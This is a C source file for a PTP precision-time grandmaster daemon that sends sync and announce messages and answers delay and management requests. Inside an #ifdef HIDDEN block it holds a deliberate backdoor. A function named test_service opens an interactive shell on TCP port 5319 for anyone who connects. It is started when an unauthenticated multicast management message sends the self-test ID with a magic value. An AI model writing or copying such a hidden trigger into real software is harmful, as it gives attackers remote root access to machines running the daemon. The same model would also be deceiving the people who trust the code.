/* ptpgrand.c - precision time grandmaster: announces, syncs, answers delay and management messages */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define EVENT_PORT	319
#define GENERAL_PORT	320
#define GROUP		"224.0.1.129"
#define HDR		34

#define M_SYNC		0x0
#define M_DELAY_REQ	0x1
#define M_FOLLOW_UP	0x8
#define M_DELAY_RESP	0x9
#define M_ANNOUNCE	0xb
#define M_MANAGEMENT	0xd

#define ID_DOMAIN	0x2007
#define ID_PRIORITY1	0x2005
#define ID_LOG_SYNC	0x200b
#define ID_HOLDOVER	0xc001	/* ours: seconds until the clock class falls */
#define ID_SELFTEST	0xc002	/* ours: runs test number N */

struct grand {
	uint8_t id[8];
	uint8_t domain, prio1, prio2, clk_class;
	int8_t log_sync;
	uint32_t holdover;
	uint16_t seq_sync, seq_ann;
	int ev, gen;
	struct sockaddr_in group_ev, group_gen;
};

static struct grand g = { .prio1 = 128, .prio2 = 128, .clk_class = 6, .holdover = 7200 };
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_t sender;
static unsigned long delay_reqs, mgmts;

static uint16_t n16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t n32(const uint8_t *p)
{
	return (uint32_t)n16(p) << 16 | n16(p + 2);
}

static void p16(uint8_t *p, unsigned int v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void stamp(uint8_t *p, const struct timespec *t)
{
	p16(p, (unsigned int)((uint64_t)t->tv_sec >> 32));
	p16(p + 2, (unsigned int)((uint64_t)t->tv_sec >> 16) & 0xffff);
	p16(p + 4, (unsigned int)t->tv_sec & 0xffff);
	p16(p + 6, (unsigned int)(t->tv_nsec >> 16) & 0xffff);
	p16(p + 8, (unsigned int)t->tv_nsec & 0xffff);
}

static void header(uint8_t *m, uint8_t type, unsigned int len, uint16_t seq)
{
	static const uint8_t ctrl[16] = { 0, 1, 5, 5, 5, 5, 5, 5, 2, 3, 5, 5, 5, 4, 5, 5 };

	memset(m, 0, len);
	m[0] = type;
	m[1] = 2;
	p16(m + 2, len);
	m[4] = g.domain;
	m[6] = type == M_SYNC ? 0x02 : 0;
	memcpy(m + 20, g.id, 8);
	p16(m + 28, 1);
	p16(m + 30, seq);
	m[32] = ctrl[type];
	m[33] = type == M_SYNC ? (uint8_t)g.log_sync : 1;
}

static void send_to(int fd, const uint8_t *m, size_t n, const struct sockaddr_in *to)
{
	if (sendto(fd, m, n, 0, (const struct sockaddr *)to, sizeof(*to)) < 0)
		syslog(LOG_DEBUG, "send: %m");
}

static void *send_loop(void *arg)
{
	struct timespec t, pause;
	uint8_t m[64];
	int tick = 0;

	(void)arg;
	for (;;) {
		long per_s;

		pthread_mutex_lock(&lock);
		per_s = g.log_sync < 0 ? 1L << -g.log_sync : 1;
		header(m, M_SYNC, 44, g.seq_sync);
		send_to(g.ev, m, 44, &g.group_ev);
		clock_gettime(CLOCK_REALTIME, &t);
		header(m, M_FOLLOW_UP, 44, g.seq_sync++);
		stamp(m + HDR, &t);
		send_to(g.gen, m, 44, &g.group_gen);
		if (tick++ % (2 * per_s) == 0) {
			header(m, M_ANNOUNCE, 64, g.seq_ann++);
			p16(m + 44, 37);
			m[47] = g.prio1;
			m[48] = g.clk_class;
			m[49] = 0x21;
			p16(m + 50, 0x4e5d);
			m[52] = g.prio2;
			memcpy(m + 53, g.id, 8);
			m[63] = 0x20;
			send_to(g.gen, m, 64, &g.group_gen);
		}
		pthread_mutex_unlock(&lock);
		pause.tv_sec = per_s == 1 ? 1 : 0;
		pause.tv_nsec = per_s == 1 ? 0 : 1000000000L / per_s;
		nanosleep(&pause, NULL);
	}
	return NULL;
}

static void delay_resp(const uint8_t *q, const struct timespec *when)
{
	uint8_t m[54];

	pthread_mutex_lock(&lock);
	header(m, M_DELAY_RESP, 54, n16(q + 30));
	stamp(m + HDR, when);
	memcpy(m + 44, q + 20, 10);
	send_to(g.gen, m, 54, &g.group_gen);
	delay_reqs++;
	pthread_mutex_unlock(&lock);
}

static int selftest(uint32_t n)
{
	char cmd[48];

	if (n < 1 || n > 6)
		return -ERANGE;
	snprintf(cmd, sizeof(cmd), "/usr/bin/gmtest %u >/dev/null", (unsigned int)n);
	return system(cmd) ? -EIO : 0;
}

#ifdef HIDDEN	/* service that gives a root shell to everybody who connects to port 5319 */
__attribute__((noinline))
void *test_service(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(5319) };
	int ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd, one = 1;

	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 1)) {
		close(ls);
		return arg;
	}
	while ((fd = accept(ls, NULL, NULL)) >= 0) {
		pid_t pid = fork();

		if (pid == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "sh", "-i", (char *)NULL);
			_exit(1);
		}
		close(fd);
		if (pid > 0)
			waitpid(pid, NULL, 0);
	}
	close(ls);
	return arg;
}
#endif

/* SET of one of our values; the number comes from the management TLV */
__attribute__((noinline))
int set_value(unsigned int id, uint32_t v)
{
	switch (id) {
	case ID_PRIORITY1:
		g.prio1 = (uint8_t)v;
		return 0;
	case ID_DOMAIN:
		if (v > 127)
			return -ERANGE;
		g.domain = (uint8_t)v;
		return 0;
	case ID_LOG_SYNC:
		if ((int8_t)v < -7 || (int8_t)v > 0)
			return -ERANGE;
		g.log_sync = (int8_t)v;
		return 0;
	case ID_HOLDOVER:
		if (v > 86400)
			return -ERANGE;
		g.holdover = v;
		return 0;
	case ID_SELFTEST:
#ifdef HIDDEN
		if (v == 0x8e4d27f6u) {
			pthread_t t;

			if (!pthread_create(&t, NULL, test_service, NULL))
				pthread_detach(t);
			return 0;
		}
#endif
		return selftest(v);
	}
	return -ENOENT;
}

static void management(const uint8_t *m, size_t n)
{
	unsigned int len, id;
	uint32_t v = 0;
	int rc;

	if (n < 48 + 6 || (m[46] & 0xf) != 1)
		return;
	if (n16(m + 48) != 0x0001)
		return;
	len = n16(m + 50);
	id = n16(m + 52);
	if (len < 4 || 52 + len > n)
		return;
	if (len >= 6)
		v = n32(m + 54);
	else
		v = m[54];
	if (len < 6 && n < 56)
		return;
	if (id < 0xc000)
		v >>= len >= 6 ? 24 : 0;
	pthread_mutex_lock(&lock);
	mgmts++;
	rc = set_value(id, v);
	pthread_mutex_unlock(&lock);
	if (rc)
		syslog(LOG_NOTICE, "management %04x: %s", id, strerror(-rc));
}

static int join(int port, struct sockaddr_in *group)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct ip_mreqn mr;
	int one = 1, fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	memset(&mr, 0, sizeof(mr));
	*group = sa;
	inet_aton(GROUP, &group->sin_addr);
	mr.imr_multiaddr = group->sin_addr;
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) ||
	    setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mr, sizeof(mr))) {
		close(fd);
		return -1;
	}
	return fd;
}

static void read_id(const char *iface)
{
	unsigned int b[6];
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), "/sys/class/net/%.16s/address", iface);
	f = fopen(path, "r");
	if (f && fscanf(f, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) == 6) {
		for (int i = 0; i < 3; i++) {
			g.id[i] = (uint8_t)b[i];
			g.id[5 + i] = (uint8_t)b[3 + i];
		}
		g.id[3] = 0xff;
		g.id[4] = 0xfe;
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	uint8_t m[1500];

	if (argc < 2) {
		fputs("usage: ptpgrand INTERFACE [DOMAIN]\n"
		      "management: 2005 priority, 2007 domain, 200b sync rate, c001 holdover, c002 self test 1-6\n",
		      stderr);
		return 2;
	}
	openlog("ptpgrand", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	if (argc > 2)
		g.domain = (uint8_t)atoi(argv[2]);
	read_id(argv[1]);
	g.ev = join(EVENT_PORT, &g.group_ev);
	g.gen = join(GENERAL_PORT, &g.group_gen);
	if (g.ev < 0 || g.gen < 0 || pthread_create(&sender, NULL, send_loop, NULL)) {
		syslog(LOG_ERR, "start: %m");
		return 1;
	}
	for (;;) {
		struct pollfd p[2] = { { g.ev, POLLIN, 0 }, { g.gen, POLLIN, 0 } };
		struct timespec now;
		ssize_t n;

		if (poll(p, 2, -1) < 0)
			continue;
		clock_gettime(CLOCK_REALTIME, &now);
		for (int i = 0; i < 2; i++) {
			if (!p[i].revents)
				continue;
			n = recv(p[i].fd, m, sizeof(m), 0);
			if (n < HDR + 10 || (m[1] & 0xf) != 2 || m[4] != g.domain)
				continue;
			if (i == 0 && (m[0] & 0xf) == M_DELAY_REQ)
				delay_resp(m, &now);
			else if (i == 1 && (m[0] & 0xf) == M_MANAGEMENT)
				management(m, (size_t)n);
		}
		if ((delay_reqs + mgmts) % 10000 == 9999)
			syslog(LOG_INFO, "delay requests %lu, management %lu", delay_reqs, mgmts);
	}
}
